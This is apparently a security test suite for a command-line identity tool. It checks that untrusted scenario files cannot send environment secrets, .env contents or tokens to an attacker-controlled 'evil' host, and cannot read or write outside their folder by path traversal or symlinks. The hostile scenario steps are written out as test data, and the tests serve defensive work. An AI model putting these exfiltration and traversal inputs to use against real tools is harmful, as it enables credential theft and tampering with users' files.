/**
 * Scenario files come with a checkout: what their lines type, their variables say and their captures carry is its
 * word.
 */
import { existsSync, readFileSync, symlinkSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { CANARY, type Checkout, hostileCheckout, listener } from './checkout.ts';

const SANDBOX = 'login --provider ingroupe --sandbox --headless';
const ENV: Readonly<Record<string, string>> = { HOMESECRET: CANARY };
/** As CI servers set it. */
const WITH_SECRET = { ...ENV, IDCLI_CLIENT_SECRET: CANARY };

async function runFile(checkout: Checkout, scenario: object, line: readonly string[] = [], env = ENV) {
  checkout.write({ 'attack.yaml': JSON.stringify(scenario) });
  return checkout.run(['run', 'attack.yaml', '--verbose', ...line], { env });
}

describe('variables', () => {
  it.each<[string, object]>([
    ['in the line', { steps: [{ run: `${SANDBOX} --login-hint \${env.HOMESECRET}` }] }],
    ['in env', { steps: [{ run: SANDBOX, env: { A: `\${env.HOMESECRET}` } }] }],
    ['on standard input', { steps: [{ run: SANDBOX, stdin: `\${env.HOMESECRET}` }] }],
    ['in what is expected', { steps: [{ run: SANDBOX, expect: { document: { a: `\${env.HOMESECRET}` } } }] }],
  ])('that are not declared are refused: %s', async (_, scenario) => {
    const { code, stderr } = await runFile(hostileCheckout({}), scenario);
    expect(code).toBe(2);
    expect(stderr).toContain('HOMESECRET is not declared');
  });

  it.each<[string, object]>([
    [
      'by the matrix',
      { steps: [{ run: `${SANDBOX} --login-hint \${matrix.x}`, matrix: { x: [`\${env.HOMESECRET}`] } }] },
    ],
    ['by reference', { steps: [{ run: `${SANDBOX} --param x=env:HOMESECRET` }] }],
    ['by reference in env', { steps: [{ run: SANDBOX, env: { IDCLI_PARAM: 'x=env:HOMESECRET' } }] }],
  ])('nor are they followed another way: %s', async (_, scenario) => {
    const checkout = hostileCheckout({});
    const { code, stdout } = await runFile(checkout, scenario, [
      '--report',
      'report.json',
      '--show-pii',
      '--show-secrets',
    ]);
    expect(code).toBe(1);
    expect(stdout + readFileSync(join(checkout.folder, 'report.json'), 'utf8')).not.toContain(CANARY);
  });

  it('that are declared are listed before anything runs, quietly too', async () => {
    const scenario = { variables: ['HOMESECRET'], steps: [{ run: SANDBOX }] };
    for (const line of [[], ['--quiet']]) {
      const { code, stderr } = await runFile(hostileCheckout({}), scenario, line);
      expect(code, stderr).toBe(0);
      expect(stderr.split('\n')[0]).toBe('attack.yaml takes from the environment: HOMESECRET');
    }
  });

  it('that are declared are masked where a line has them repeated', async () => {
    const scenario = {
      variables: ['HOMESECRET'],
      steps: [
        { run: `explain \${env.HOMESECRET}` },
        { run: `${SANDBOX} --client-id \${env.HOMESECRET}` },
        { run: SANDBOX, expect: { document: { outcome: `\${env.HOMESECRET}` } } },
      ],
    };
    const checkout = hostileCheckout({});
    const files = ['report.json', 'junit.xml'];
    const { code, stdout, stderr } = await runFile(checkout, scenario, [
      '--report',
      'report.json',
      '--junit',
      'junit.xml',
    ]);
    expect(code).toBe(1);
    const written = files.map((name) => readFileSync(join(checkout.folder, name), 'utf8'));
    expect([stdout, stderr, ...written].join('\n')).not.toContain(CANARY);
  });

  it('personal data that a step captured is masked where a later line has it repeated', async () => {
    const { code, stdout, stderr } = await runFile(hostileCheckout({}), {
      steps: [
        { run: SANDBOX, capture: { born: 'claims.birthdate' } },
        { run: `explain \${born}`, expect: { exit: 2 } },
        { run: `explain \${born}` },
      ],
    });
    expect(code).toBe(1);
    expect(stdout).toContain('idcli knows no code');
    expect(stdout + stderr).not.toContain('1990-02-17');
  });

  it('may be left undeclared with --trust-project, and that is said', async () => {
    const scenario = { steps: [{ run: `${SANDBOX} --param x=env:HOMESECRET` }] };
    const { code, stderr } = await runFile(hostileCheckout({}), scenario, ['--trust-project']);
    expect(code, stderr).toBe(0);
    expect(stderr).toContain('--trust-project: attack.yaml may use env:HOMESECRET');
  });
});

describe('a host that only the file names gets nothing without a yes', () => {
  const at = (url: string, more = '') =>
    `login --issuer ${url} --client-id c --client-auth client_secret_basic --headless --timeout 60 ${more}`;
  it.each<[string, (url: string) => object]>([
    ['the secret that the environment holds', (url) => ({ steps: [{ run: at(url) }] })],
    [
      'a variable that it declares',
      (url) => ({ variables: ['HOMESECRET'], steps: [{ run: at(url, `--login-hint \${env.HOMESECRET}`) }] }),
    ],
    [
      'a reference to one',
      (url) => ({ variables: ['HOMESECRET'], steps: [{ run: at(url, '--client-secret env:HOMESECRET') }] }),
    ],
    ['a file of the folder', (url) => ({ steps: [{ run: at(url, '--client-secret file:.env') }] })],
    ['the content of a file', (url) => ({ steps: [{ run: at(url, '--login-hint @.env') }] })],
    [
      'by an address in env',
      (url) => ({
        variables: ['HOMESECRET'],
        steps: [
          {
            run: 'login --client-id c --headless --client-secret env:HOMESECRET',
            env: { IDCLI_ISSUER: url },
          },
        ],
      }),
    ],
    [
      'by a proxy to the sandbox',
      (url) => ({
        variables: ['HOMESECRET'],
        steps: [{ run: `${SANDBOX} --proxy ${url} --client-secret env:HOMESECRET` }],
      }),
    ],
    [
      'by a proxy in env',
      (url) => ({ steps: [{ run: 'token client-credentials --provider op', env: { IDCLI_PROXY: url } }] }),
    ],
    [
      'by what calls itself a sandbox',
      (url) => ({ steps: [{ run: `login --provider ingroupe --sandbox=${url} --headless --timeout 60` }] }),
    ],
    [
      'what a step captured',
      (url) => ({
        inOrder: true,
        steps: [
          { run: 'decode-token token.jwt', capture: { stolen: 'data.payload.sub' } },
          { run: at(url, `--login-hint \${stolen}`) },
        ],
      }),
    ],
    [
      'a key set fetched with a secret in its address',
      (url) => ({
        variables: ['HOMESECRET'],
        steps: [{ run: `decode-token token.jwt --jwks ${url}/\${env.HOMESECRET}` }],
      }),
    ],
  ])('%s', async (_, scenario) => {
    const [good, evil] = [await listener(), await listener()];
    const token = `eyJhbGciOiJSUzI1NiJ9.${Buffer.from(`{"sub":"${CANARY}"}`).toString('base64url')}.AAAA`;
    const checkout = hostileCheckout({ '.env': CANARY, 'token.jwt': token });
    checkout.user(`providers: {op: {issuer: '${good.url}', clientId: c, clientSecret: 'env:HOMESECRET'}}`);
    const { code, stdout } = await runFile(checkout, scenario(evil.url), [], WITH_SECRET);
    expect(code, stdout).not.toBe(0);
    expect(evil.leaked(), stdout).toBe(false);
  });

  it('a file that was trusted is asked about again when the project file names another host', async () => {
    const [good, evil] = [await listener(), await listener()];
    const checkout = hostileCheckout({});
    const project = (url: string) => JSON.stringify({ providers: { mine: { issuer: url, clientId: 'c' } } });
    const run = 'login --provider mine --headless --timeout 60 --client-secret env:HOMESECRET';
    checkout.write({
      'idcli.config.yaml': project(good.url),
      'attack.yaml': JSON.stringify({ variables: ['HOMESECRET'], steps: [{ run }] }),
    });
    await checkout.run(['trust', 'add', 'attack.yaml', 'idcli.config.yaml']);
    await checkout.run(['run', 'attack.yaml'], { env: ENV });
    expect(good.leaked()).toBe(true);
    checkout.write({ 'idcli.config.yaml': project(evil.url) });
    await checkout.run(['run', 'attack.yaml'], { env: ENV });
    expect(evil.leaked()).toBe(false);
  });

  it('shows no secrets in what it writes', async () => {
    const checkout = hostileCheckout({});
    const run = `${SANDBOX} --har out.har --show-secrets`;
    expect((await runFile(checkout, { steps: [{ run }] })).code).toBe(1);
    const { log } = JSON.parse(readFileSync(join(checkout.folder, 'out.har'), 'utf8'));
    expect(log.entries).toEqual([]);
  });

  it('gets nothing by a sandbox that says it is elsewhere', async () => {
    const [fake, evil] = [await listener(), await listener()];
    fake.answer('/_sandbox/state', { tenants: [{ id: 'ingroupe', issuer: evil.url, clientId: 'c' }] });
    const run = `login --provider ingroupe --sandbox=${fake.url} --headless --timeout 60`;
    const { code, stdout } = await runFile(hostileCheckout({}), { steps: [{ run }] }, [], WITH_SECRET);
    expect(code, stdout).toBe(1);
    expect([...fake.heard, ...evil.heard]).toEqual([]);
  });

  it.each(['IDCLI_CLIENT_SECRET', 'HOMESECRET'])(
    'gets no %s by what calls itself a sandbox',
    async (name) => {
      const fake = await listener();
      fake.answer('/_sandbox/state', { tenants: [{ id: 'ingroupe', issuer: fake.url, clientId: 'c' }] });
      const given = name === 'HOMESECRET' ? ` --client-secret env:${name}` : '';
      const run = `login --provider ingroupe --sandbox=${fake.url} --headless --client-id c${given}`;
      const scenario = { variables: ['HOMESECRET'], steps: [{ run }] };
      const { code, stdout } = await runFile(hostileCheckout({}), scenario, [], { [name]: CANARY });
      expect(code).toBe(1);
      expect(stdout).toContain('would send to');
      expect(fake.leaked()).toBe(false);
    },
  );

  it('gets no command by a name that a step captured', async () => {
    const checkout = hostileCheckout({
      'other.yaml': JSON.stringify({ variables: ['HOMESECRET'], steps: [{ run: SANDBOX }] }),
      'token.jwt': `eyJhbGciOiJSUzI1NiJ9.${Buffer.from('{"sub":"run"}').toString('base64url')}.AAAA`,
    });
    const { code, stdout, stderr } = await runFile(checkout, {
      inOrder: true,
      steps: [
        { run: 'decode-token token.jwt', capture: { word: 'data.payload.sub' } },
        { run: [`\${word}`, 'other.yaml'] },
      ],
    });
    expect(code, stdout).not.toBe(0);
    expect(stdout + stderr).not.toContain('takes from the environment');
  });

  it('asks once for the whole run on a terminal', async () => {
    const evil = await listener();
    const checkout = hostileCheckout({});
    const questions: string[] = [];
    checkout.write({
      'attack.yaml': JSON.stringify({ steps: [{ run: at(evil.url) }, { run: at(evil.url), name: 'b' }] }),
    });
    await checkout.run(['run', 'attack.yaml', '--jobs', '2'], {
      env: WITH_SECRET,
      answers: {
        async confirm(question) {
          questions.push(question);
          return true;
        },
      },
    });
    expect(questions).toHaveLength(1);
    expect(questions[0]).toContain('attack.yaml');
    expect(evil.leaked()).toBe(true);
  });

  it('goes on with IDCLI_TRUST_PROJECT, and says so', async () => {
    const evil = await listener();
    const { stderr } = await runFile(hostileCheckout({}), { steps: [{ run: at(evil.url) }] }, [], {
      ...WITH_SECRET,
      IDCLI_TRUST_PROJECT: '1',
    });
    expect(evil.leaked()).toBe(true);
    expect(stderr).toContain('--trust-project: attack.yaml may use IDCLI_CLIENT_SECRET');
  });

  it.each<[string, object]>([
    ['in the line', { run: `${SANDBOX} --trust-project` }],
    ['in env', { run: SANDBOX, env: { IDCLI_TRUST_PROJECT: 'true' } }],
    ['by idcli trust', { run: 'trust add attack.yaml' }],
    ['by idcli trust, elsewhere', { run: 'trust add ../checkout/attack.yaml' }],
  ])('cannot vouch for itself: %s', async (_, step) => {
    const checkout = hostileCheckout({});
    const { code } = await runFile(checkout, { steps: [step] }, ['--trust-project']);
    expect(code).toBe(1);
    expect(existsSync(join(checkout.home, '.config/idcli/trusted.json'))).toBe(false);
  });
});

describe('files and outputs are inside the folder of the run', () => {
  it.each<[string, string]>([
    ['a recording', `${SANDBOX} --har ../out.har`],
    ['one through a link', `${SANDBOX} --har link/out.har`],
    ['one through a linked file', `${SANDBOX} --har file-link`],
    ['one for git', `${SANDBOX} --har .git/config`],
    ['one for git on a disk that ignores case', `${SANDBOX} --har .Git/new`],
    ['a portrait', `${SANDBOX} --scope "openid portrait" --portrait ../out.jpg`],
    ['a signed text', 'sign-consent --method sbid --text x --sandbox --out ../out.xml'],
    ['metadata', 'saml metadata --sp-entity-id https://sp.example.com --make-keys --out ../out.xml'],
    ['keys', 'saml metadata --sp-entity-id https://sp.example.com --make-keys'],
    [
      "the user's own configuration",
      'providers add evil --issuer https://evil.example.com --client-auth none --client-id c --in user',
    ],
    ['a message of an order', 'sign-order build --text x --order-id o --phone +4740000000 --out ../out.xml'],
  ])('not written: %s', async (_, run) => {
    const checkout = hostileCheckout({ '.git/config': 'before' });
    symlinkSync('../home', join(checkout.folder, 'link'));
    symlinkSync('../outside.txt', join(checkout.folder, 'file-link'));
    const { code, stdout } = await runFile(checkout, { steps: [{ run }] });
    expect(code, stdout).toBe(1);
    const above = join(checkout.folder, '..');
    for (const path of ['out.har', 'out.jpg', 'out.xml', 'home/out.har']) {
      expect(existsSync(join(above, path)), path).toBe(false);
    }
    expect(existsSync(join(checkout.home, '.config/idcli/config.yaml'))).toBe(false);
    expect(existsSync(join(checkout.home, '.config/idcli/saml'))).toBe(false);
    expect(readFileSync(join(above, 'outside.txt'), 'utf8')).toBe(`${CANARY}\n`);
    expect(readFileSync(join(checkout.folder, '.git/config'), 'utf8')).toBe('before');
    expect(existsSync(join(checkout.folder, '.Git/new'))).toBe(false);
  });

  it.each([
    'decode-token ../outside.txt',
    'decode-token link/key.txt',
    'decode-saml ../outside.txt',
    'decode-sdo ../outside.txt',
    'decode-token eyJ.eyJ.A --jwks ../outside.txt',
    'decode-token eyJ.eyJ.A --key ../outside.txt',
    'decode-token eyJ.eyJ.A --secret file:../outside.txt',
    'decode-token eyJ.eyJ.A --decryption-key ../outside.txt',
    'decode-token eyJ.eyJ.A --nonce @../outside.txt',
    'inspect ../outside.txt',
    'token introspect @../outside.txt --sandbox --provider ingroupe',
    'token userinfo --from ../outside.txt --sandbox --provider ingroupe',
    'sign-consent --method sbid --text-file ../outside.txt --sandbox --out a.xml',
    'sign-order build --file ../outside.txt --order-id o --phone +4740000000',
    'login --provider ingroupe --sandbox --headless --ca ../outside.txt',
    'saml metadata --sp-entity-id https://sp.example.com --sp-key ../outside.txt --sp-cert ../outside.txt',
  ])('not read: %s', async (run) => {
    const checkout = hostileCheckout({});
    symlinkSync('../home', join(checkout.folder, 'link'));
    const { stdout, stderr, code } = await runFile(
      checkout,
      {
        steps: [{ run, capture: { all: '.' } }, { run: `decode-token \${all}` }],
      },
      ['--show-pii', '--show-secrets'],
    );
    expect(code).toBe(1);
    expect(stdout + stderr).not.toContain(CANARY);
    expect(`${stdout}${stderr}`.replace(/\s+/g, ' ')).toMatch(
      /may read and write there only|may name files in|leads outside/,
    );
  });

  it("with --trust-project they may be elsewhere, which is said; the user's own configuration never", async () => {
    const checkout = hostileCheckout({});
    const run = (line: string) => runFile(checkout, { steps: [{ run: line }] }, ['--trust-project']);
    const written = await run(`${SANDBOX} --har ../out.har`);
    expect(written.code, written.stdout).toBe(0);
    expect(written.stderr).toContain('which it writes outside');
    expect(existsSync(join(checkout.folder, '../out.har'))).toBe(true);
    const added =
      'providers add evil --issuer https://evil.example.com --client-auth none --client-id c --in user';
    expect((await run(added)).code).toBe(1);
    expect(existsSync(join(checkout.home, '.config/idcli/config.yaml'))).toBe(false);
  });

  it('a file that is run from home has its own folder only', async () => {
    const checkout = hostileCheckout({});
    writeFileSync(join(checkout.home, 'token.txt'), 'eyJhbGciOiJub25lIn0.e30.');
    const scenario = JSON.stringify({ steps: [{ run: 'decode-token ../../token.txt' }] });
    const { mkdirSync } = await import('node:fs');
    mkdirSync(join(checkout.home, 'src/clone'), { recursive: true });
    writeFileSync(join(checkout.home, 'src/clone/attack.yaml'), scenario);
    const { code } = await checkout.run(['run', 'src/clone/attack.yaml'], { cwd: checkout.home });
    expect(code).toBe(1);
  });

  it.each<[string, (checkout: Checkout) => string]>([
    ['the configuration is elsewhere', ({ home }) => home],
    ['home is named by a link', ({ home }) => join(home, '../link')],
  ])('nor has one that is run from home while %s', async (_, homeOf) => {
    const checkout = hostileCheckout({});
    symlinkSync('home', join(checkout.home, '../link'));
    const { mkdirSync } = await import('node:fs');
    mkdirSync(join(checkout.home, 'clone'));
    const run = 'saml metadata --sp-entity-id https://sp.example.com --out ../.profile';
    writeFileSync(join(checkout.home, 'clone/attack.yaml'), JSON.stringify({ steps: [{ run }] }));
    const { code } = await checkout.run(['run', 'clone/attack.yaml'], {
      cwd: checkout.home,
      configFolder: join(checkout.folder, '../etc/idcli'),
      homeFolder: homeOf(checkout),
    });
    expect(code).toBe(1);
    expect(existsSync(join(checkout.home, '.profile'))).toBe(false);
  });

  it('what is not a name of a file stays as typed', async () => {
    const run =
      'sign-consent --method mobileid --text x --external-ref order-17 --device-id d --sandbox --dry-run';
    const expected = { 'data.request.object.login_hint.0': 'externalRef-order-17' };
    const scenario = { steps: [{ run, expect: { document: expected } }] };
    const { code, stdout } = await runFile(hostileCheckout({}), scenario);
    expect(code, stdout).toBe(0);
  });

  it('inside the folder everything works as typed', async () => {
    const checkout = hostileCheckout({ 'scenarios/keys/jwks.json': '{"keys":[]}' });
    checkout.write({
      'scenarios/good.yaml': JSON.stringify({
        steps: [
          { run: `${SANDBOX} --har ../out/login.har` },
          { run: 'inspect keys/jwks.json', expect: { exit: [0, 1, 3] } },
        ],
      }),
    });
    const { code, stdout } = await checkout.run(['run', 'scenarios/good.yaml']);
    expect(code, stdout).toBe(0);
    expect(existsSync(join(checkout.folder, 'out/login.har'))).toBe(true);
  });
});
